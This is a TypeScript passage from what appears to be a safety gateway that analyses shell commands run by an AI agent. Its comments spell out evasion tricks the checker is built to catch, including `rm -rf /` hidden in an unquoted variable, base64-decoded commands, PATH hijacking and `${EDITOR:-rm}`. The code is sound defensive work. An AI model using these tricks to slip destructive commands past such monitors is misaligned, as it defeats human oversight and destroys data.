  const substituted = node.childrenForFieldName('argument').filter((a) => a.type === 'command_substitution' || (a.type === 'string' && a.namedChildren.length === 1 && a.namedChildren[0]?.type === 'command_substitution'));
  const last = substituted.length === 1 ? substituted[0] : node.childrenForFieldName('argument').at(-1);
  const listed = last ? loopDisposableListing(last, scope) : undefined;
  if (listed === undefined) {
    dispatchArgv(inv, words, input);
    return;
  }
  const listedOutside = scope.listedBy;
  scope.listedBy = new Map([...(listedOutside ?? []), [last!.text, listed]]);
  dispatchArgv(inv, words, input);
  scope.listedBy = listedOutside;
}

/**
 * The lead's answer 98 (round 23, built in round 25): `echo "export PATH=$HOME/bin:$PATH" >> ~/.bashrc` writes the
 * session's folder list after the folders it adds; `$PATH` there reads as that list (at the next start the file's own
 * `$PATH` holds no less). A PATH assignment alone on the line whose every added folder is fixed, absolute, without `..`,
 * and under the home, the workspace or a standard prefix (SYSTEM_PROGRAM_FOLDERS, `/usr`, `/opt/homebrew`); otherwise
 * null (not known).
 */
function sessionPathLine(producer: Node, scope: ShellScope): string | null {
  const text = describeProducer(producer, { vars: new Map(scope.vars).set('PATH', '$PATH') }, null).text;
  const m = text === null ? null : /^(?:export )?PATH=(\S+)$/.exec(text.trim());
  if (m === null) return null;
  const entries = m[1]!.split(':');
  const under = (root: string | undefined, p: string) => root !== undefined && root !== '/' && (p === root || p.startsWith(`${root.replace(/\/+$/, '')}/`));
  const trusted = (p: string) => /^\/[A-Za-z0-9._/+-]*$/.test(p) && !p.split('/').includes('..') && (SYSTEM_PROGRAM_FOLDERS.has(p.replace(/\/+$/, '')) || under('/usr', p) || under('/opt/homebrew', p) || under(scope.home, p) || under(scope.cwd, p));
  return entries.filter((e) => e === '$PATH').length === 1 && entries.every((e) => e === '$PATH' || trusted(e)) ? text : null;
}

/**
 * `echo TEXT > f`, `cat <<EOF > f`: remember what f holds, so running f later is analysed; a file something runs later
 * (`>> ~/.bashrc`) has the commands it stores judged now (storeWrite).
 */
function recordWrites(producer: Node, redirects: Redirect[], scope: ShellScope, env: ShellEnv, doc: Stdin | null = null): void {
  for (const r of redirects) {
    if (!r.target || !/^(>|>>|>\||&>)$/.test(r.op)) continue;
    // A bare `cat` given the statement's heredoc prints it.
    const catsDoc = doc !== null && producer.type === 'command' && producer.childForFieldName('name')?.text === 'cat' && producer.childrenForFieldName('argument').length === 0;
    const described = catsDoc ? null : describeProducer(producer, scope, null);
    const text = catsDoc ? doc.text : (described!.text ?? (r.op === '>>' ? sessionPathLine(producer, scope) : null));
    storeWrite({ scope, env, runSource: nestedRunner(scope, env, r.span) }, r.target.value, text === null ? null : `${text}\n`, r.op === '>>', r.target.text);
    // D8 round 16: `kubectl config view --raw > "$KC"` holds what the kubeconfig the gateway judges for that call holds
    const abs = r.target.value === null ? null : resolvePath(r.target.value, scope);
    // Round 42 (nxa42, the lead's answer 426.6): a renderer's standard output alone into the file, whole (`>`, `>|`; not
    // `&>`, which mixes in its warnings, nor an append), carries the render's inputs to a later apply of the file.
    const rendered = abs !== null && (r.op === '>' || r.op === '>|') && (r.fd === undefined || r.fd === '1') ? renderedOutputOf(described, scope) : undefined;
    if (rendered !== undefined) (scope.renderedFiles ??= new Map()).set(abs!, rendered);
    if (abs !== null && r.op !== '>>' && PRINTS_OWN_CONFIG.test(producer.text)) (scope.printedConfigs ??= new Set()).add(abs);
    // Round 38b (n4, answer 396.8): lines written to a flight controller's serial device run in the vehicle's shell.
    if (abs !== null && isSerialDevice(abs)) serialDeviceWrite(env.b, abs, text, r.span);
  }
}

/**
 * A kubeconfig printed by a Kubernetes client from the files it reads (`kubectl config view`, `--minify`, `--flatten`,
 * `--raw`), or made by a local cluster tool for its own cluster with client certificates and no exec plugin (`kind get
 * kubeconfig`, `k3d kubeconfig get`): one command, no substitution, pipe or other command in it.
 */
const PRINTS_OWN_CONFIG = /^\s*((kubectl|oc|kubecolor)\s+config\s+view|kind\s+get\s+kubeconfig|k3d\s+kubeconfig\s+(get|print|show))(\s+[-\w=.]+)*\s*(>|$)/;

/** An unquoted `$X` is split on whitespace and globbed by bash: `ARGS='-rf /'; rm $ARGS` is `rm -rf /`. */
function splitUnquoted(node: Node, w: Word, scope: ShellScope): Word[] {
  const unquoted = node.type === 'simple_expansion' || node.type === 'expansion' || (node.type === 'concatenation' && node.namedChildren.some((c) => c?.type === 'simple_expansion' || c?.type === 'expansion'));
  if (!unquoted || w.value === null) return [w];
  // SECURITY: a script that sets IFS splits words its own way; we do not guess how.
  if (scope.vars.has('IFS')) return [{ ...w, value: null }];
  const parts = w.value.split(/[ \t\n]+/).filter(Boolean);
  if (parts.length === 0) return [];
  return parts.map((p) => ({ ...w, value: p, glob: w.glob || /[*?[]/.test(p) }));
}

/** `{a,b}` in a fixed word becomes two words, as bash would expand it (one level, up to 16). */
function expandBraces(w: Word): Word[] {
  // A sequence the word evaluator leaves unknown, in a word of plain characters (`db-{1..3}.staging.internal`).
  const plainSeq = w.value === null && /^[\w./@:+%=-]*\{-?\d+\.\.-?\d+\}[\w./@:+%=-]*$/.test(w.text);
  if ((w.value === null && !plainSeq) || w.text.startsWith("'") || w.text.startsWith('"')) return [w];
  // Braces inside quotes are not expanded (bash, "Brace Expansion"): `-p='[{"op":"remove","path":"/x"}]'`,
  // `--data='{"a":1,"b":2}'` stay one word; only a group written outside quotes is.
  if (/['"]/.test(w.text) && !(w.text.replace(/'[^']*'|"(?:[^"\\]|\\.)*"/g, '').match(/\{[^{}]*\}/g) ?? []).some((g) => g.includes(',') || g.includes('..'))) return [w];
  const value = w.value ?? w.text;
  // `{1..3}`, `{01..12}`: a sequence (bash, "Brace Expansion"; zero-padded when either end is), the first 16 of it.
  const seq = /^([^{}]*)\{(-?\d+)\.\.(-?\d+)\}([^{}]*)$/.exec(value);
  if (seq) {
    const [from, to] = [Number(seq[2]), Number(seq[3])];
    const width = /^-?0\d/.test(seq[2]!) || /^-?0\d/.test(seq[3]!) ? Math.max(seq[2]!.length, seq[3]!.length) : 0;
    const step = from <= to ? 1 : -1;
    const out: Word[] = [];
    for (let n = from; out.length < 16 && (step > 0 ? n <= to : n >= to); n += step) out.push({ ...w, value: `${seq[1]}${String(n).padStart(width, '0')}${seq[4]}` });
    return out;
  }
  const m = /^([^{}]*)\{([^{}]*,[^{}]*)\}([^{}]*)$/.exec(value);
  if (!m) return [w];
  const parts = m[2]!.split(',').slice(0, 16);
  return parts.map((p) => ({ ...w, value: `${m[1]}${p}${m[3]}` }));
}

function makeInvocation(name: string, words: Word[], redirects: Redirect[], stdin: Stdin | null, assignments: Map<string, string | null>, span: { start: number; end: number }, scope: ShellScope, env: ShellEnv): Invocation {
  const inv: Invocation = {
    name,
    args: words.slice(1),
    redirects,
    stdin,
    assignments,
    search: {},
    span,
    scope,
    env,
    runSource: nestedRunner(scope, env, span, assignments),
    dispatch: (argv, input) => dispatchArgv(inv, argv, input),
  };
  return inv;
}

/**
 * The `runSource` of a command at `span`: source it runs, judged one level deeper, here or in `cwd`. The command's own
 * assignments (`OUT=dist sh -c '…'`, and env(1)'s, which `envWrapper` adds to the same map) are in the environment of the
 * program it starts, so the nested source sees them as variables (bash(1), "ENVIRONMENT": a command's assignments
 * "affect only the environment seen by that command"); one not fixed stays not fixed there.
 */
function nestedRunner(scope: ShellScope, env: ShellEnv, span: { start: number; end: number }, assignments: ReadonlyMap<string, string | null> = new Map()): Invocation['runSource'] {
  return (source, input, why, cwd, language) => {
    env.b.finding('shell_nested', `${why}: analysed as ${language === 'powershell' ? 'PowerShell' : 'shell'}`, span);
    const nested = { ...childScope(scope), depth: scope.depth + 1, ...(cwd !== undefined ? { cwd } : {}) };
    if (language !== 'powershell') for (const [name, value] of assignments) if (/^[A-Za-z_][A-Za-z0-9_]*$/.test(name)) nested.vars.set(name, value);
    if (language === 'powershell') shellWalker('powershell')(source, nested, env, input, span.start);
    else runNested(source, nested, env, input, span.start);
  };
}

/** Classifies bash source nested in another command (wrappers, interpreters, other shells' programs). */
export function runNested(source: string, scope: ShellScope, env: ShellEnv, stdin: Stdin | null, spanStart: number): void {
  // Offsets inside a nested string cannot map back exactly; findings point at the outer command.
  const before = env.b.findings.length;
  runSource(source, scope, env, stdin, 0);
  for (let i = before; i < env.b.findings.length; i++) {
    const f = env.b.findings[i]!;
    if (f.span) f.span = { start: spanStart, end: spanStart };
  }
}

function dispatchArgv(base: Invocation, argv: Word[], stdin: Stdin | null): void {
  const head = argv[0];
  if (!head) return;
  if (head.value === null) {
    // `"$(git rev-parse --show-toplevel)/node_modules/.bin/tsc"`, `$(npm prefix)/bin/eslint`: the folder is
    // computed, the program's name is not. It runs as that name wherever it lives (the substitution itself
    // is analysed with the word).
    const computed = /^"?(?:.*(?:\)|\}|`|\$[A-Za-z_][A-Za-z0-9_]*))((?:\/[A-Za-z0-9._+-]+)+)"?$/s.exec(head.text);
    const name = computed ? computed[1]!.split('/').pop()! : null;
    if (name && name !== '.' && name !== '..') {
      base.env.b.finding('command_path_computed', `the folder of \`${name}\` is computed; the program is named in the input`, { start: head.start, end: head.end });
      // D8: where the file lives is not fixed, so with OS facts it is the agent's own unless proved otherwise.
      const own = programOfAgent(base, `?${head.text}`, head.text);
      dispatchArgv(base, [{ ...head, text: own ? `./${name}` : name, value: own ? `./${name}` : name, glob: false }, ...argv.slice(1)], stdin);
      return;
    }
    // Round 41 (nv41): the user's editor (`$EDITOR F`, `"$VISUAL" F`, `sudo $EDITOR /etc/hosts`, `${EDITOR:-vi} F`) given
    // only files opens them to be edited by hand, as `vim F` does (benign there): read as `vi` on those files. Any option
    // (`+'!cmd'`, `-c`, `--eval`: each editor's own) or a file not fixed keeps the name unknown (fail closed).
    // Round 42 (atk42): not when the input itself gives the variable a value (`read -r EDITOR < f`, `mapfile`, `printf -v`,
    // `declare`, `eval`, an assignment the walker could not evaluate: the value is the line's, not the user's editor), nor
    // when a default that is no editor would run (`${EDITOR:-rm}`: EDITOR is often unset in an agent's shell).
    const editorVar = /^"?\$\{?(EDITOR|VISUAL|SUDO_EDITOR)/.exec(head.text)?.[1];
    const editorDefault = /:?-([\w./-]+)\}"?$/.exec(head.text)?.[1];
    const lineSetsEditor = editorVar !== undefined && (base.scope.vars.has(editorVar) || new RegExp(String.raw`(^|[^\w$])${editorVar}\s*\+?=|\b(read|mapfile|readarray|declare|typeset|local|export|eval|printf|getopts)\b[^;&|\n]*\b${editorVar}\b`).test(base.env.source));
    const defaultIsEditor = editorDefault === undefined || /^(?:.*\/)?(vi|vim|nvim|nano|pico|emacs|emacsclient|ed|ex|joe|jed|mg|micro|kak|hx|helix|code|codium|subl|gedit|kate|mousepad|xed|gvim|mvim|zed|edit|notepad)$/.test(editorDefault);
    if (/^"?\$\{?(EDITOR|VISUAL|SUDO_EDITOR)(:?-[\w./-]+)?\}?"?$/.test(head.text) && !lineSetsEditor && defaultIsEditor && argv.length > 1 && argv.slice(1).every((a) => a.value !== null && !/^[-+]/.test(a.value))) {
      base.env.b.finding('user_editor', `\`${head.text}\` is the user's editor, opened on ${argv.length - 1 === 1 ? 'a file' : 'files'} to edit by hand`, { start: head.start, end: head.end });
      dispatchArgv(base, [{ ...head, text: 'vi', value: 'vi', glob: false }, ...argv.slice(1)], stdin);
      return;
    }
    // SECURITY: an unresolved command name could be anything.
    base.env.b.opaque('shell_dynamic_command', `the command name \`${head.text}\` is not fixed in the input`, { start: head.start, end: head.end });
    return;
  }
  if (/[^\x21-\x7e]/.test(head.value)) {
    // SECURITY: invisible or look-alike characters in a command name hide what runs.
    base.env.b.opaque('shell_unusual_command_name', `the command name \`${JSON.stringify(head.value)}\` has invisible or non-ASCII characters`, { start: head.start, end: head.end });
    return;
  }
  const scope = base.scope;
  // The lead's answer 51: downloaded code run after its quarantine is removed, or a downloaded script opened in Terminal.
  if (downloadedCodeRun(base, argv, knownTool)) return;
  const alias = scope.aliases.get(head.value);
  if (alias !== undefined && scope.depth <= MAX_DEPTH) {
    const rest = argv.slice(1).map((w) => w.text).join(' ');
    base.runSource(`${alias} ${rest}`, stdin, `alias \`${head.value}\``);
    return;
  }
  if (head.value.includes('/')) {
    const written = writtenContent(scope, head.value);
    if (written === null) {
      base.env.b.opaque('script_written_dynamic', `\`${head.value}\` was written by this input with content we cannot see, then run`, base.span);
      return;
    }
    if (written !== undefined) {
      base.runSource(written, stdin, `the script \`${head.value}\` written earlier`);
      return;
    }
  }
  const fn = scope.functions.get(head.value);
  if (fn) {
    if (scope.depth >= MAX_DEPTH) {
      base.env.b.opaque('shell_recursion', `function \`${head.value}\` recurses too deep`, base.span);
      return;
    }
    const inner = { ...scope, depth: scope.depth + 1 };
    const args = argv.slice(1);
    const saved = new Map(scope.vars);
    args.forEach((a, i) => inner.vars.set(String(i + 1), a.value));
    visit(fn, inner, base.env, stdin, 0);
    scope.vars.clear();
    for (const [k, v] of saved) scope.vars.set(k, v);
    return;
  }
  let name = head.value.includes('/') && !head.value.startsWith('./') && !head.value.startsWith('../') ? head.value.slice(head.value.lastIndexOf('/') + 1) : head.value;
  // SECURITY (D8): `bin/kubectl`, `/home/a/bin/kubectl` run as the tool their name says only where the agent
  // cannot change the file (known only with OS facts); otherwise as a program of its own, as `./bin/kubectl`.
  if (name !== head.value && programOfAgent(base, resolvePath(head.value, scope) ?? `?${head.value}`, head.value)) name = head.value.startsWith('/') ? head.value : `./${head.value}`;
  // SECURITY (D8): after `PATH=bin:$PATH` (or `export PATH=…`, `env PATH=…`) a bare name is whatever the new
  // folder holds, perhaps a file the agent wrote: it runs as an unknown program named by that folder.
  // `read PATH`, `printf -v PATH …`, `mapfile PATH`: PATH gets a value we do not follow.
  if (/^(read|printf|mapfile|readarray)$/.test(head.value) && argv.slice(1).some((w) => w.value === 'PATH' || w.value === '-vPATH')) scope.searchPath = '?';
  // D8 round 14: `read KUBECONFIG` (`printf -v GIT_DIR …`) gives a routing variable a value we do not follow
  if (/^(read|printf|mapfile|readarray)$/.test(head.value)) {
    for (const w of argv.slice(1)) {
      const v = w.value?.replace(/^-v/, '');
      if (v === undefined || !isRoutingVariable(v)) continue;
      scope.vars.set(v, null);
      markRouting(scope.vars, v);
    }
  }
  const hashed = scope.hashed?.get(head.value);
  if (hashed !== undefined && !head.value.includes('/')) {
    // Both readings, as for PATH below: the tool the name says, and the file `hash -p` bound it to, unknown.
    dispatchCommand(invocationOf(base, name, argv, stdin));
    dispatchCommand(invocationOf(base, hashed.includes('/') ? hashed : `./${hashed}`, argv, stdin));
    return;
  }
  const searchPath = base.search?.path ?? scope.searchPath;
  // SECURITY (D8): bash runs its builtins itself, whatever PATH holds; a program (`env echo`, `find -exec cd`) or
  // bash's `exec` starts the file of that name on PATH instead.
  const builtin = !base.startedByProgram && SHELL_BUILTINS.has(head.value);
  if (!head.value.includes('/') && searchPath !== undefined && !builtin) {
    const folder = untrustedSearchFolder(searchPath);
    if (folder !== null) {
      base.env.b.finding('program_search_path_changed', `\`PATH\` puts \`${folder}\` before the system's program folders: \`${head.value}\` may be a program written there`, base.span);
      // Both readings count: the tool the name says (its verbs and targets) and an unknown program.
      dispatchCommand(invocationOf(base, name, argv, stdin));
      name = `${folder}/${head.value}`;
    }
  }
  // SECURITY (D8): a bare name runs the file the session's PATH finds first, perhaps one the agent put on a folder
  // it can write (`~/.local/bin/kubectl`); with OS facts it is then a program of the agent's own, as `./kubectl`.
  const anyBuiltin = builtin || (!base.startedByProgram && OTHER_BUILTINS.has(head.value));
  if (name === head.value && !name.includes('/') && !anyBuiltin && searchesSessionPath(searchPath) && programOfAgent(base, name, name)) name = `./${name}`;
  // D8 round 13: the configuration files this call names itself are the tool's, in place of the defaults
  // (keyed as the program is named: its bare name, or the absolute path of `/usr/bin/kubectl`)
  const key = head.value.includes('/') ? resolvePath(head.value, scope) : anyBuiltin ? null : head.value;
  const route = key === null ? null : toolRouting(head.value.slice(head.value.lastIndexOf('/') + 1), argv.slice(1), base.assignments, scope);
  if (route !== null) base.env.b.routeTool(key!, route);
  // SECURITY (D8 round 16): a configuration file or plugin this input wrote before the call is not the one the gateway reads
  if (key !== null) {
    // (one the input does not fix is named as shown: D8 round 18's writes with no fixed destination)
    const own = new Set(base.redirects.flatMap((r) => (/^(>|>>|>\||&>)$/.test(r.op) && r.target?.value === null ? [r.target.text] : r.op !== '>>' && /^(>|>\||&>)$/.test(r.op) && r.target?.value != null ? [resolvePath(r.target.value, scope) ?? ''] : [])));
    const ctx = base.env.ctx;
    judgeWrittenConfig(head.value.slice(head.value.lastIndexOf('/') + 1), route, scope, { ...(ctx.toolEnv ? { toolEnv: ctx.toolEnv } : {}), ...(ctx.home !== undefined ? { home: ctx.home } : {}), ...(ctx.cwd !== undefined ? { cwd: ctx.cwd } : {}) }, own, base.env.b, base.span);
  }
  // An init script run by its path (`/etc/init.d/nginx stop`, `/usr/local/etc/rc.d/nginx stop`) is what service(8) runs
  // for `service nginx stop`: judged as that, unless the agent may have written the file (D8 kept the path as the name).
  const initScript = INIT_SCRIPT.exec(head.value);
  if (initScript && name === initScript[1]) {
    dispatchCommand(invocationOf(base, 'service', [...splitWords(`service ${initScript[1]}`, base.span), ...argv.slice(1)], stdin));
    return;
  }
  dispatchCommand(invocationOf(base, name, argv, stdin));
}

/** An init script's path: System V's `/etc/init.d/NAME` (`/etc/rc.d/init.d/NAME`), the BSDs' `/etc/rc.d/NAME`. */
const INIT_SCRIPT = /^\/(?:usr\/local\/)?etc\/(?:rc\.d\/init\.d|init\.d|rc\.d)\/([\w@.+-]+)$/;

/** Bash's words that run their argv as bash would (builtins included); any other wrapper starts a file. */
const SHELL_RUNS_ARGV: ReadonlySet<string> = new Set(['command', 'builtin', 'time']);

/**
 * The invocation of `name` with `argv`'s arguments. The argv it hands on (a wrapper's `dispatch`) is started by a
 * program, or by bash's `exec`, unless `name` is one of bash's own words that run it as bash would (`command echo`).
 */
function invocationOf(base: Invocation, name: string, argv: Word[], stdin: Stdin | null): Invocation {
  const startedByProgram = base.startedByProgram === true || !SHELL_RUNS_ARGV.has(name);
  return { ...base, name, args: argv.slice(1), stdin, dispatch: (inner, input) => dispatchArgv({ ...base, startedByProgram }, inner, input) };
}

/** Whether a bare name is searched on the session's PATH: no `PATH=` of the command's own, or one that keeps `$PATH`. */
function searchesSessionPath(searchPath: string | undefined): boolean {
  return searchPath === undefined || /\$(PATH\b|\{PATH\})/.test(searchPath);
}


/** The rest of bash's builtins and keywords (bash(1), SHELL BUILTIN COMMANDS): bash runs them, not a file on PATH. */
const OTHER_BUILTINS: ReadonlySet<string> = new Set(['.', 'source', 'eval', 'exec', 'command', 'builtin', 'enable', 'getopts', 'bg', 'fg', 'disown', 'kill', 'suspend', 'times', 'caller', 'compgen', 'complete', 'compopt', 'dirs', 'pushd', 'popd', 'shopt', 'history', 'fc', 'logout', 'mapfile', 'readarray', 'bind', 'help', 'time', 'coproc', '[[', 'function', 'select', 'break', 'continue', 'typeset']);

/**
 * The output of a pure decoder stage given fixed input: undefined when the stage is not one we know
 * (its output is then unknown), null when it is but its input is unknown or does not decode to
 * clean text. SECURITY: decoding is exact or nothing; a failed decode stays opaque.
 */
function decodeStage(name: string, args: string[], text: string | null): string | null | undefined {
  const flags = new Set(args);
  const decoder =
    (name === 'base64' && (flags.has('-d') || flags.has('--decode') || flags.has('-D')) && args.every((a) => /^-(d|D|i|-decode|-ignore-garbage)$/.test(a)) && 'base64') ||
    (name === 'openssl' && ((args[0] === 'base64' && args.slice(1).every((a) => a === '-d' || a === '-A')) || (args[0] === 'enc' && args.includes('-d') && (args.includes('-base64') || args.includes('-a')) && args.slice(1).every((a) => /^-(d|base64|a|A)$/.test(a)))) && 'base64') ||
    (name === 'xxd' && args.length > 0 && args.every((a) => /^-(r|p|ps|rp|rps|plain)$/.test(a)) && args.join('').includes('r') && args.join('').includes('p') && 'hex') ||
    (name === 'rev' && args.length === 0 && 'rev') ||
    (name === 'cat' && args.length === 0 && 'identity');
  if (!decoder) return undefined;
  if (text === null) return null;
  let out: string;
  if (decoder === 'base64') {
    const compact = text.replace(/\s+/g, '');
    if (!/^[A-Za-z0-9+/]*={0,2}$/.test(compact) || compact.length % 4 === 1) return null;
    out = Buffer.from(compact, 'base64').toString('utf8');
  } else if (decoder === 'hex') {
    const compact = text.replace(/\s+/g, '');
    if (!/^([0-9a-fA-F]{2})*$/.test(compact)) return null;
    out = Buffer.from(compact, 'hex').toString('utf8');
  } else if (decoder === 'rev') {
    out = text
      .split('\n')
      .map((line) => [...line].reverse().join(''))
      .join('\n');
  } else {
    out = text;
  }
  // Only clean text is shell input we can read: replacement characters or control bytes mean binary.
  for (const ch of out) {
    const c = ch.codePointAt(0)!;
    if (c === 0xfffd || c < 0x09 || (c > 0x0d && c < 0x20)) return null;
  }
  return out;
}

/**
 * The fixed text a command substitution prints: a single command or a pipeline whose every stage is
 * a fixed producer or a pure decoder (`$(echo rm)`, `$(printf … | base64 -d)`); null otherwise.
 */
function substitutionOutput(node: Node, vars: Vars): string | null {
  const inner = node.namedChildren.filter((c): c is Node => c !== null);
  if (inner.length !== 1) return null;
  const body = inner[0]!;
  const stages = body.type === 'pipeline' ? body.namedChildren.filter((c): c is Node => c !== null) : [body];
  let out: Stdin | null = null;
  for (const stage of stages) {
    out = describeProducer(stage, { vars }, out);
    if (out.text === null) return null;
  }
  return out?.text ?? null;
}

setSubstitutionOutput(substitutionOutput);

/**
 * What `printf FORMAT ARGS…` prints, for the conversions we can emulate exactly (`%s`, `%b`, `%%`);
 * like printf, the format is reused until the arguments run out. Anything else is null (unknown).
 */
function printfOutput(args: string[]): string | null {
  const [format = '', ...rest] = args[0] === '--' ? args.slice(1) : args;
  if (/%(?![sb%])/.test(format.replace(/%%/g, ''))) return null;
  const consumes = /%[sb]/.test(format);
  const queue = [...rest];
  let out = '';
  do {
    out += decodeAnsiC(format).replace(/%([sb%])/g, (_m, c: string) => (c === '%' ? '%' : c === 'b' ? decodeAnsiC(queue.shift() ?? '') : (queue.shift() ?? '')));
  } while (consumes && queue.length > 0);
  return out;
}

/** pgrep's options that take a value (procps pgrep(1)); the rest of its words are patterns, pidof's are program names. */
const PGREP_VALUED = new Set(['-u', '--euid', '-U', '--uid', '-g', '--pgroup', '-G', '--group', '-P', '--parent', '-s', '--session', '-t', '--terminal', '-F', '--pidfile', '-d', '--delimiter', '--ns', '--nslist', '-r', '--runstates', '-o', '-O', '--older']);

/**
 * The system daemon whose pids `pgrep`/`pidof` print: a pattern or name that is that daemon's process name, or pgrep's
 * `-u ACCOUNT` of a service account (every process of `postgres` is the database).
 */
function lookedUpDaemon(name: string | null, args: ReadonlyArray<string | null>): string | undefined {
  const base = name?.replace(/^.*\//, '');
  if (base !== 'pgrep' && base !== 'pidof') return undefined;
  for (let i = 0; i < args.length; i++) {
    const a = args[i];
    if (a === null || a === undefined) continue;
    if (a.startsWith('-')) {
      if (base !== 'pgrep' || !PGREP_VALUED.has(a)) continue;
      const v = args[++i];
      if ((a === '-u' || a === '-U' || a === '--euid' || a === '--uid') && v && v.split(',').some((x) => SERVICE_ACCOUNT.test(x))) return v.split(',').find((x) => SERVICE_ACCOUNT.test(x));
      continue;
    }
    if (SYSTEM_DAEMON.test(a)) return a;
  }
  return undefined;
}

/** D8 round 20: `LESS=-k./x; git log`, `export LESSKEY_CONTENT=…`: less's variables for the programs after them (`lessVariableProblem`). */
function lessVariableSet(name: string, scope: ShellScope, env: ShellEnv, span: { start: number; end: number }): void {
  if (name !== 'LESS' && name !== 'LESSKEY_CONTENT') return;
  const problem = lessVariableProblem(name, scope.vars.get(name));
  if (problem !== null) env.b.opaque('command_variable_dynamic', `${problem}, for the programs run after it`, span);
}
